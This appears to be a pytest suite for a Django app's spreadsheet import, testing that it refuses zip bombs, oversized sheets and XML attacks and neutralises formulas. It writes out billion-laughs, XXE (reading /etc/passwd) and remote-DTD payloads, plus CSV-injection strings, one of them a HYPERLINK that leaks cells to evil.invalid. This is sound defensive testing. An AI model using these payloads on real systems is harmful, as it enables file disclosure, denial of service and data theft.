"""Hostile and careless files: bombs, XML attacks, endless columns, formulas, old previews.

The workbooks are written part by part (a real XLSX is a zip of XML parts), so that each test
holds exactly the trap it is about; a bomb is written in chunks and never sits whole in memory.
"""

import csv
import datetime
import decimal
import io
import json
import random
import time
import tracemalloc
import zipfile
from collections.abc import Iterable, Iterator

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from awards import imports
from awards.exports import csv_text, looks_like_formula
from awards.imports import files
from awards.models import AnnexImport, Decision
from tests.makers import (
    annex_xlsx,
    committed,
    make_award,
    make_commune_decision,
    make_decision,
    make_person,
    upload,
)

pytestmark = pytest.mark.django_db

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
CONTENT_TYPES = f"""<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" ContentType="{SPREADSHEET}.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SPREADSHEET}.worksheet+xml"/>
<Override PartName="/xl/worksheets/sheet2.xml" ContentType="{SPREADSHEET}.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="{SPREADSHEET}.sharedStrings+xml"/>
<Override PartName="/xl/styles.xml" ContentType="{SPREADSHEET}.styles+xml"/>
</Types>"""
ROOT_RELATIONSHIPS = f"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{RELATIONSHIPS}/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""
WORKBOOK = f"""<?xml version="1.0" encoding="UTF-8"?>
<workbook xmlns="{MAIN}" xmlns:r="{RELATIONSHIPS}"><sheets>
<sheet name="Danh sách" sheetId="1" r:id="rId1"/><sheet name="Ghi chú" sheetId="2" r:id="rId2"/>
</sheets></workbook>"""
WORKBOOK_RELATIONSHIPS = f"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="{RELATIONSHIPS}/worksheet" Target="worksheets/sheet1.xml"/>
<Relationship Id="rId2" Type="{RELATIONSHIPS}/worksheet" Target="worksheets/sheet2.xml"/>
<Relationship Id="rId3" Type="{RELATIONSHIPS}/sharedStrings" Target="sharedStrings.xml"/>
<Relationship Id="rId4" Type="{RELATIONSHIPS}/styles" Target="styles.xml"/>
</Relationships>"""
STYLES = f"""<?xml version="1.0" encoding="UTF-8"?>
<styleSheet xmlns="{MAIN}"><fonts count="1"><font><sz val="11"/></font></fonts>
<fills count="1"><fill><patternFill patternType="none"/></fill></fills>
<borders count="1"><border/></borders>
<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>
<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>
<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>
</styleSheet>"""
STRINGS_START = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN}">'
STRINGS = STRINGS_START + "<si><t>Họ và tên</t></si></sst>"
# The header (its first cell from the shared strings) and one row: a two-line annex.
ANNEX = (
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Danh hiệu</t></is>'
    '</c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Nguyễn Văn Mới</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>Lao động tiên tiến</t></is></c></row>'
)

Part = str | bytes | Iterable[bytes]


def sheet(*pieces: Part) -> Iterator[bytes]:
    """A worksheet holding the pieces in its sheetData."""
    yield f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    for piece in pieces:
        yield from chunks(piece)
    yield b"</sheetData></worksheet>"


def chunks(part: Part) -> Iterable[bytes]:
    if isinstance(part, str):
        return [part.encode()]
    return [part] if isinstance(part, bytes) else part


def repeated(piece: bytes, times: int) -> Iterator[bytes]:
    """The piece `times` times, a megabyte at a time."""
    per_chunk = max(1, 2**20 // len(piece))
    full, rest = divmod(times, per_chunk)
    for _chunk in range(full):
        yield piece * per_chunk
    yield piece * rest


def lines(count: int, first: int = 3) -> Iterator[bytes]:
    """Numbered empty lines: each different, so that they compress as real sheets do."""
    for start in range(first, first + count, 10_000):
        end = min(start + 10_000, first + count)
        yield b"".join(b'<row r="%d"><c r="A%d" s="0"/></row>' % (n, n) for n in range(start, end))


def workbook(**parts: Part) -> bytes:
    """An XLSX of two sheets, the first a two-line annex; `parts` replace or add its parts."""
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELATIONSHIPS,
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELATIONSHIPS,
        "xl/styles.xml": STYLES,
        "xl/sharedStrings.xml": STRINGS,
        "xl/worksheets/sheet1.xml": sheet(ANNEX),
        "xl/worksheets/sheet2.xml": sheet(),
        **parts,
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                for chunk in chunks(part):
                    member.write(chunk)
    return content.getvalue()


def refusal(content: bytes, name: str = "annex.xlsx") -> str:
    with pytest.raises(imports.ImportFileError) as error:
        imports.read_table(upload(name, content))
    return str(error.value)


@pytest.fixture
def draft():
    return make_commune_decision(number="12/QĐ-UBND")


def upload_annex(client, decision: Decision, content: bytes, name: str = "annex.xlsx"):
    return client.post(
        reverse("admin:awards_decision_import", args=[decision.pk]),
        {"file": upload(name, content), "default_year": "2024"},
    )


def test_the_workbook_these_tests_build_is_read_as_an_annex():
    table = imports.read_table(upload("annex.xlsx", workbook()))

    assert table.headers == ["Họ và tên", "Danh hiệu"]
    assert [cells for _line, _section, cells in table.rows] == [
        ["Nguyễn Văn Mới", "Lao động tiên tiến"]
    ]


# Sizes ------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_its_declared_size_without_being_unpacked(staff_client, draft):
    # A cell of 64 MB in 70 KB (a gigabyte takes a megabyte; it takes seconds to make, too).
    start, end = '<row r="1"><c r="A1" t="inlineStr"><is><t>', "</t></is></c></row>"
    cell = sheet(start, repeated(b"A", 2**26), end)
    bomb = workbook(**{"xl/worksheets/sheet1.xml": cell})
    assert len(bomb) < 100_000

    tracemalloc.start()
    response = upload_annex(staff_client, draft, bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert response.status_code == 200
    assert "The workbook holds far more inside than any annex" in response.content.decode()
    assert peak < 10 * 2**20  # the bomb was not unpacked
    assert not AnnexImport.objects.exists()


@pytest.mark.parametrize(
    "rows",
    [
        [ANNEX.encode(), b'<row r="3">', repeated(b"<c/>", 20_000_000), b"</row>"],  # 80 MB
        [ANNEX.encode(), repeated(b"<row/>", 5_000_000)],  # 30 MB, but a thousand to one
    ],
    ids=["a row of 20 million cells", "5 million blank rows"],
)
def test_a_bomb_of_cells_or_blank_rows_is_refused_by_its_size(rows):
    message = refusal(workbook(**{"xl/worksheets/sheet1.xml": sheet(*rows)}))

    assert "The workbook holds far more inside than any annex" in message


def test_a_sheet_of_more_than_100000_lines_is_refused_even_empty_ones():
    content = workbook(**{"xl/worksheets/sheet1.xml": sheet(ANNEX, lines(100_000))})

    message = refusal(content)

    assert message == (
        "A sheet of the workbook has more than 100,000 lines, counting the empty ones. Delete "
        "the empty lines under the annex, or copy the annex alone into a new workbook."
    )


def test_so_is_a_second_sheet_of_more_than_100000_lines():
    # openpyxl opens every sheet, and one without its size written is read to the end.
    content = workbook(**{"xl/worksheets/sheet2.xml": sheet(lines(100_001, first=1))})

    assert "more than 100,000 lines" in refusal(content)


def test_empty_lines_and_columns_after_the_annex_are_not_read():
    # A sheet formatted far beyond its annex: styled empty cells out to XFD, the last column.
    styled = "".join(f'<c r="{column}3" s="0"/>' for column in ("C", "CW", "ZZ", "XFD"))
    content = workbook(**{
        "xl/worksheets/sheet1.xml": sheet(ANNEX, f'<row r="3">{styled}</row>', lines(5_000, 4))
    })  # fmt: skip

    table = imports.read_table(upload("annex.xlsx", content))

    assert [cells for _line, _section, cells in table.rows] == [
        ["Nguyễn Văn Mới", "Lao động tiên tiến"]
    ]


def test_a_sheet_is_read_to_its_last_value_whatever_size_it_claims():
    # Some programs write the size as A1 whatever the sheet holds (xlrd's apachepoi_52348.xlsx).
    content = workbook(**{
        "xl/worksheets/sheet1.xml": b"".join(sheet(ANNEX)).replace(
            b"<sheetData>", b'<dimension ref="A1"/><sheetData>'
        ).replace(b'r="A2"', b'r="a2"')  # and lower-case cell names, as others write
    })  # fmt: skip

    table = imports.read_table(upload("annex.xlsx", content))

    assert [cells for _line, _section, cells in table.rows] == [
        ["Nguyễn Văn Mới", "Lao động tiên tiến"]
    ]


def test_a_workbook_in_strict_open_xml_is_read():
    # As Excel writes "Strict Open XML" (xlrd's strict_date_1900.xlsx): openpyxl read no sheet.
    strict = WORKBOOK.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").replace(
        RELATIONSHIPS, "http://purl.oclc.org/ooxml/officeDocument/relationships"
    )

    table = imports.read_table(upload("annex.xlsx", workbook(**{"xl/workbook.xml": strict})))

    assert table.headers == ["Họ và tên", "Danh hiệu"]


def test_a_workbook_whose_sheets_name_no_worksheet_gets_a_message_not_a_500():
    nowhere = WORKBOOK.replace('r:id="rId1"', 'r:id="rId9"').replace('r:id="rId2"', 'r:id="rId8"')

    assert refusal(workbook(**{"xl/workbook.xml": nowhere})).startswith(
        "No sheet of the workbook could be read."
    )


def test_a_row_with_more_cells_than_excel_writes_is_refused():
    cells = "".join(f'<c r="{letter}{2}"/>' for letter in column_letters(60_000))

    message = refusal(workbook(**{"xl/worksheets/sheet1.xml": sheet(f'<row r="2">{cells}</row>')}))

    assert "The workbook holds far more inside than any annex" in message


def column_letters(count: int) -> Iterator[str]:
    from openpyxl.utils import get_column_letter

    for number in range(count):
        yield get_column_letter(number % 18_278 + 1)


def test_a_value_beyond_the_first_100_columns_is_refused():
    far = '<row r="3"><c r="CW3" t="inlineStr"><is><t>ghi chú</t></is></c></row>'

    message = refusal(workbook(**{"xl/worksheets/sheet1.xml": sheet(ANNEX, far)}))

    assert message == (
        "Line 3 has a value in column CW, beyond the first 100 columns; an annex has about ten. "
        "Delete the columns that are not part of the annex."
    )


def test_a_cell_longer_than_5000_characters_is_refused():
    long = f'<row r="3"><c r="B3" t="inlineStr"><is><t>{"a" * 5_001}</t></is></c></row>'

    message = refusal(workbook(**{"xl/worksheets/sheet1.xml": sheet(ANNEX, long)}))

    assert message == (
        "Line 3 has a cell of more than 5,000 characters; no annex's cell is that long. "
        "Shorten it, or check that the file holds only the annex."
    )


def test_a_shared_text_longer_than_5000_characters_is_refused():
    strings = f"{STRINGS_START}<si><t>Họ và tên</t></si><si><r><t>{'a' * 3_000}</t></r>"
    strings += f"<r><t>{'b' * 3_000}</t></r></si></sst>"  # rich text: the runs add up

    message = refusal(workbook(**{"xl/sharedStrings.xml": strings}))

    assert "The workbook holds a text of more than 5,000 characters" in message


def test_a_shared_text_named_by_every_cell_is_refused_before_it_fills_memory():
    """Every cell naming one 5,000-character string: 9,800 rows by 100 columns, a 2 MB file,
    took 102 s and 4.8 GB, then stored 250 million characters in the preview. 1,000 rows here:
    a billion characters."""
    strings = f"{STRINGS_START}<si><t>Họ và tên</t></si><si><t>{'ab ' * 1_666}</t></si></sst>"
    columns = [files._column_name(number) for number in range(1, 101)]
    rows = (
        f'<row r="{line}">'
        + "".join(f'<c r="{column}{line}" t="s"><v>1</v></c>' for column in columns)
        + "</row>"
        for line in range(2, 1_002)
    )
    content = workbook(
        **{"xl/sharedStrings.xml": strings, "xl/worksheets/sheet1.xml": sheet(ANNEX, *rows)}
    )
    # Refused by the child that reads it, within its bounded memory (files._sandbox_sheets).
    assert refusal(content) == (
        "The file holds more than 20,000,000 characters in all; no decision's annex is that "
        "long. Check that the file holds only the annex."
    )


def test_a_styles_part_of_many_thousand_formats_is_refused():
    # openpyxl reads the styles whole: 5 MB of a million <xf/> took 620 MB and 16 s.
    numbers = random.Random(1)
    formats = "".join(f'<xf numFmtId="{numbers.randrange(10**9)}"/>' for _n in range(60_000))
    styles = STYLES.replace("</cellXfs>", formats + "</cellXfs>")

    assert "far more inside than any annex" in refusal(workbook(**{"xl/styles.xml": styles}))


def test_a_part_that_openpyxl_reads_whole_may_not_pass_for_a_sheet():
    # A part whose root says "worksheet" but that the content types call a chart sheet, which
    # openpyxl reads whole: its many lines are bounded as a styles part would be.
    types = CONTENT_TYPES.replace(
        f'/xl/worksheets/sheet2.xml" ContentType="{SPREADSHEET}.worksheet+xml',
        f'/xl/worksheets/sheet2.xml" ContentType="{SPREADSHEET}.chartsheet+xml',
    )
    content = workbook(**{
        "[Content_Types].xml": types, "xl/worksheets/sheet2.xml": sheet(lines(60_000, 1))
    })  # fmt: skip

    assert "far more inside than any annex" in refusal(content)


def test_more_shared_texts_than_ten_columns_of_the_largest_annex_are_refused():
    numbers = random.Random(2)
    texts = (f"<si><t>{numbers.randrange(10**12)}</t></si>" for _n in range(200_001))
    strings = STRINGS.replace("</sst>", "".join(texts) + "</sst>")

    content = workbook(**{"xl/sharedStrings.xml": strings})

    assert "far more inside than any annex" in refusal(content)


# XML attacks ------------------------------------------------------------------------------

# The classic payloads: the "billion laughs" entity expansion, an external entity reading a
# local file (XXE), one fetching a remote DTD through a parameter entity, and the quadratic
# blow-up (one large entity repeated; no nesting for a parser to notice).
LAUGHS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">' for n in range(10)
)
ATTACKS = {
    "billion laughs": (f"<!DOCTYPE lolz [{LAUGHS}]>", "&lol9;"),
    "XXE": ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "remote DTD": (
        '<!DOCTYPE foo [<!ENTITY % dtd SYSTEM "http://attacker.invalid/evil.dtd"> %dtd;]>',
        "x",
    ),
    "quadratic blow-up": (f'<!DOCTYPE q [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 10_000),
}


def with_doctype(doctype: str, reference: str) -> str:
    """A sheet whose first cell holds the entity, under the document type declaring it."""
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{reference}</t></is></c></row>'
    return b"".join(sheet(cell)).decode().replace("?>\n", f"?>\n{doctype}", 1)


@pytest.mark.parametrize("attack", ATTACKS, ids=list(ATTACKS))
def test_an_xml_attack_in_a_sheet_is_refused_with_a_message_not_a_500(staff_client, draft, attack):
    content = workbook(**{"xl/worksheets/sheet1.xml": with_doctype(*ATTACKS[attack])})

    response = upload_annex(staff_client, draft, content)

    assert response.status_code == 200
    assert (
        "The workbook holds an XML document type (DOCTYPE), which no spreadsheet program "
        "writes, so it was not read." in response.content.decode()
    )
    assert not AnnexImport.objects.exists()


@pytest.mark.parametrize(
    "part",
    ["xl/sharedStrings.xml", "xl/workbook.xml", "[Content_Types].xml", "docProps/custom.xml"],
)
def test_a_doctype_in_any_part_is_refused(part):
    doctype, reference = ATTACKS["billion laughs"]
    # Blank lines first: a document type need not open the part.
    content = workbook(**{part: "\n" * 70_000 + f"{doctype}<sst><si><t>{reference}</t></si></sst>"})

    assert "XML document type (DOCTYPE)" in refusal(content)


CUT_SHORT = b"".join(sheet(ANNEX)).decode()[:-40]


@pytest.mark.parametrize(
    ("part", "message"),
    [
        (CUT_SHORT, "The file could not be read as an Excel workbook (.xlsx)."),
        (CUT_SHORT.replace("<sheetData>", '<dimension ref="A1:B2"/><sheetData>'),
         "The file could not be read as an Excel workbook (.xlsx)."),
        (sheet(ANNEX.replace('r="A2"', 'r="2A"')),
         "The workbook is damaged and could not be read."),
        (sheet(ANNEX.replace('r="2"', 'r="1.5"')),
         "The workbook is damaged and could not be read."),
    ],
    ids=["cut short", "cut short after its size", "a cell reference backwards", "line 1.5"],
)  # fmt: skip
def test_a_sheet_of_broken_xml_gets_a_message_not_a_500(part, message):
    # The scan finds a broken reference; XML cut short, python-calamine does.
    assert refusal(workbook(**{"xl/worksheets/sheet1.xml": part})) == message


def test_a_sheet_with_a_stray_control_character_is_damaged_not_read_short():
    # Raw control characters are not XML: the scan stops there; python-calamine reads on.
    broken = ANNEX.replace("Nguyễn Văn Mới", "Nguyễn Văn Mới\x0b")
    part = sheet(broken + '<row r="3"><c r="A3" t="inlineStr"><is><t>Lê Văn Sau</t></is></c></row>')

    assert refusal(workbook(**{"xl/worksheets/sheet1.xml": part})) == (
        "The workbook is damaged and could not be read."
    )


def test_a_nul_written_as_an_excel_escape_is_read_as_a_space_and_the_preview_kept(draft):
    escaped = sheet(ANNEX.replace("Nguyễn Văn Mới", "Nguyễn_x0000_Văn Mới"))

    imp = imports.start_import(
        upload("annex.xlsx", workbook(**{"xl/worksheets/sheet1.xml": escaped})), draft, 2024, None
    )  # PostgreSQL's JSON refuses a NUL

    assert imp.rows[0][2][0] == "Nguyễn Văn Mới"


def test_another_sheet_beyond_the_bounds_leaves_the_annex_readable():
    far = sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')

    first, second = files.read_sheets(
        upload("annex.xlsx", workbook(**{"xl/worksheets/sheet2.xml": far}))
    )

    assert list(first.lines)[1] == ["Nguyễn Văn Mới", "Lao động tiên tiến"]
    with pytest.raises(files.ImportFileError, match="beyond the first 100 columns"):
        list(second.lines)


def test_an_annex_whose_only_sheet_is_beyond_the_bounds_says_why_at_once():
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'  # a stray value
    parts = {f"xl/worksheets/sheet{number}.xml": sheet(far) for number in (1, 2)}
    started = time.monotonic()

    message = refusal(workbook(**parts))

    assert "has a value in column XFD, beyond the first 100 columns" in message
    assert time.monotonic() - started < files.SANDBOX_SECONDS / 2  # no child laid it out


def test_a_formula_whose_saved_value_is_empty_is_an_empty_cell():
    # As Excel saves =IF(…;"";…) giving "": <v/>, a value, not a formula to paste.
    blank = '<c r="B3" t="str"><f>IF(A3="","","x")</f><v/></c>'
    third = f'<row r="3"><c r="A3" t="inlineStr"><is><t>Lê Văn Sau</t></is></c>{blank}</row>'

    first, _notes = files.read_sheets(
        upload("annex.xlsx", workbook(**{"xl/worksheets/sheet1.xml": sheet(ANNEX + third)}))
    )

    assert list(first.lines)[2] == ["Lê Văn Sau", ""]


def test_two_sheets_of_one_name_are_a_damaged_workbook():
    twice = WORKBOOK.replace('name="Ghi chú"', 'name="DANH SÁCH"')

    assert refusal(workbook(**{"xl/workbook.xml": twice})) == (
        "The workbook is damaged and could not be read."
    )


# CSV ----------------------------------------------------------------------------------------


def test_a_csv_of_10000_columns_is_refused(staff_client, draft):
    header = ",".join(["Họ và tên", "Danh hiệu", *(f"Cột {n}" for n in range(3, 10_001))])
    content = f"{header}\nNguyễn Văn Mới,Lao động tiên tiến\n".encode()

    response = upload_annex(staff_client, draft, content, name="annex.csv")

    assert response.status_code == 200
    assert (
        "Line 1 has a value in column 101, beyond the first 100 columns; an annex has about ten."
        in response.content.decode()
    )
    assert not AnnexImport.objects.exists()


def test_empty_columns_after_a_csvs_annex_are_dropped_from_the_preview(staff_client, draft):
    content = ("Họ và tên,Danh hiệu" + "," * 10_000 + "\n").encode()
    content += ("Nguyễn Văn Mới,Lao động tiên tiến" + "," * 10_000 + "\n").encode()

    upload_annex(staff_client, draft, content, name="annex.csv")

    imp = AnnexImport.objects.get()
    assert len(imp.headers) == 100
    preview = reverse("admin:awards_decision_import_preview", args=[draft.pk, imp.pk])
    page = staff_client.get(preview).content.decode()
    columns_form = page[page.index('id="columns"') :]
    columns_form = columns_form[: columns_form.index("</form>")]
    # One choice per column kept, and "not in the file", for each field.
    assert columns_form.count("<option") == len(imports.FIELDS) * 101


@pytest.mark.parametrize("length", [5_001, 200_000], ids=["ours", "beyond csv's own limit"])
def test_a_csv_cell_longer_than_5000_characters_is_refused(length):
    content = f"Họ và tên,Danh hiệu\n{'a' * length},Lao động tiên tiến\n".encode()

    assert refusal(content, name="annex.csv") == (
        "Line 2 has a cell of more than 5,000 characters; no annex's cell is that long. "
        "Shorten it, or check that the file holds only the annex."
    )


# Formulas -----------------------------------------------------------------------------------

# OWASP's CSV injection examples, and the issue's.
PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-1+1",
    "=cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.invalid?leak="&A1&A2,"Error: please click for details")',
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_in_the_public_rolls_csv_are_neutralised_and_the_json_stays_raw(client):
    published = make_decision(number="4012/QĐ-UBND", status=Decision.Status.PUBLISHED)
    with committed():
        for payload in PAYLOADS:
            make_award(make_person(payload), decision=published)
        make_award(make_person("Nguyễn Văn Thường"), decision=published)
    url = reverse("honours_year", args=[2024])

    response = client.get(url, {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    records = json.loads(b"".join(client.get(url, {"format": "json"}).streaming_content))

    names = {row["recipient_name"] for row in rows}
    assert names == {"'" + payload for payload in PAYLOADS} | {"Nguyễn Văn Thường"}
    assert {row["year"] for row in rows} == {"2024"}
    assert {record["recipient_name"] for record in records} >= set(PAYLOADS)


def test_every_csv_written_quotes_formula_text_but_not_numbers():
    # The yearly summary, the official forms and the open data all go through csv_text/stream.
    row = [-5, decimal.Decimal("-1.5"), datetime.date(2024, 12, 27), None, "-1+1", "- Mục 1"]

    text = csv_text(["a", "b", "c", "d", "e", "f"], [row])

    assert text.splitlines()[1] == "-5,-1.5,2024-12-27,,'-1+1,'- Mục 1"


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        *((payload, True) for payload in PAYLOADS[:7]),
        ("=B2*2", True),
        ("- Hoàn thành xuất sắc nhiệm vụ", False),  # a list item, in a clerk's citation
        ("+ Tham gia phong trào", False),
        ("-5", False),
        ("+84", False),
        ("-1.000.000", False),
        ("Nguyễn Văn Mới", False),
        ("", False),
        ("-", False),
    ],
)
def test_an_import_flags_formulas_but_not_a_dash_before_words(text, formula):
    assert looks_like_formula(text) is formula


def test_formula_cells_of_an_annex_are_errors_and_a_citation_list_is_not(draft):
    headers = ["STT", "Họ và tên", "Danh hiệu", "Thành tích", "Số tiền"]
    rows = [
        ["+cmd|' /C calc'!A0", "Lao động tiên tiến", "", ""],
        ["Trần A", "Lao động tiên tiến", "@SUM(1)", ""],
        ["Trần B", "Lao động tiên tiến", "", "-1+1"],
        ["Trần C", "Lao động tiên tiến", "- Hoàn thành xuất sắc nhiệm vụ", ""],
    ]
    content = annex_xlsx(rows, headers=headers)
    imp = imports.read_import(upload("annex.xlsx", content), draft, 2024, None)

    errors = [row.errors for row in imports.check(imp).rows]

    assert errors == [
        ["The recipient name cell holds a formula (+cmd|' /C calc'!A0); paste its value."],
        ["The citation cell holds a formula (@SUM(1)); paste its value."],
        ["The amount (VND) cell holds a formula (-1+1); paste its value."],
        [],
    ]


# Dates in the year column -------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["05/12/2024", "27/12/2024", "27-12-2024", "27.12.2024",
                                   "2024-12-27", "5/1/2024"])  # fmt: skip
def test_a_date_typed_in_the_year_column_is_read_day_first_for_its_year(draft, typed):
    content = f"Họ và tên,Danh hiệu,Năm\nNguyễn Văn Mới,Lao động tiên tiến,{typed}\n".encode()
    imp = imports.read_import(upload("annex.csv", content), draft, 2023, None)

    [row] = imports.check(imp).rows

    assert (row.year, row.errors) == (2024, [])


@pytest.mark.parametrize("typed", ["13/25/2024", "12/27/2024", "31/02/2024"])
def test_a_date_that_cannot_be_is_an_error_in_plain_words(draft, typed):
    content = f"Họ và tên,Danh hiệu,Năm\nNguyễn Văn Mới,Lao động tiên tiến,{typed}\n".encode()
    imp = imports.read_import(upload("annex.csv", content), draft, 2023, None)

    [row] = imports.check(imp).rows

    assert row.errors == [
        f"“{typed}” is not a date: write the day, the month, then the year (27/12/2024)."
    ]


# Old previews and exports -------------------------------------------------------------------


def make_preview(decision: Decision, days_ago: int, **fields) -> AnnexImport:
    imp = AnnexImport.objects.create(decision=decision, file_name="annex.xlsx", default_year=2024,
                                     **fields)  # fmt: skip
    AnnexImport.objects.filter(pk=imp.pk).update(
        uploaded_at=timezone.now() - datetime.timedelta(days=days_ago)
    )
    return imp


def test_previews_never_confirmed_are_purged_after_a_week_and_imports_stay(draft):
    old = make_preview(draft, days_ago=8)
    recent = make_preview(draft, days_ago=6)
    imported = make_preview(draft, days_ago=30, status=AnnexImport.Status.IMPORTED)
    out, err = io.StringIO(), io.StringIO()

    call_command("purge_imports", stdout=out, stderr=err)

    assert set(AnnexImport.objects.all()) == {recent, imported}
    assert not AnnexImport.objects.filter(pk=old.pk).exists()
    assert out.getvalue().startswith("1 preview(s) and ")
    assert "Deleting the abandoned previews" in err.getvalue()


def test_the_age_of_an_abandoned_preview_is_a_setting(settings, draft):
    settings.IMPORT_PREVIEW_DAYS = 1
    make_preview(draft, days_ago=2)

    assert AnnexImport.objects.abandoned().count() == 1


def test_starting_an_import_purges_the_abandoned_previews_in_one_query(
    staff_client, draft, django_assert_num_queries
):
    make_preview(draft, days_ago=8)
    with django_assert_num_queries(1):
        AnnexImport.objects.abandoned().delete()  # a DELETE by date, whatever their number
    old = make_preview(draft, days_ago=8)

    upload_annex(staff_client, draft, workbook())

    assert not AnnexImport.objects.filter(pk=old.pk).exists()
    assert AnnexImport.objects.get().file_name == "annex.xlsx"


def test_an_import_keeps_no_file_only_the_rows_it_read(settings, tmp_path, staff_client, draft):
    settings.MEDIA_ROOT = tmp_path
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # the upload goes through a temporary file

    upload_annex(staff_client, draft, workbook())

    assert AnnexImport.objects.get().rows
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_telling_a_csvs_delimiter_reads_a_few_lines_only(monkeypatch):
    """csv.Sniffer is quadratic in its sample: 64 KB of `"a` lines took 30 s of a worker."""
    sampled = []
    sniff = csv.Sniffer.sniff

    def recording(self, sample, delimiters=None):
        sampled.append(len(sample))
        return sniff(self, sample, delimiters)

    monkeypatch.setattr(csv.Sniffer, "sniff", recording)
    imports.read_table(upload("annex.csv", b'"a\n' * 22_000))  # rows, no header: read at once
    content = "Họ và tên;Danh hiệu\n" + "Nguyễn Văn Mới;Lao động tiên tiến\n" * 2_000

    table = imports.read_table(upload("annex.csv", content.encode()))

    assert sampled and max(sampled) <= files.SNIFF_CHARS
    assert table.headers == ["Họ và tên", "Danh hiệu"] and len(table.rows) == 2_000
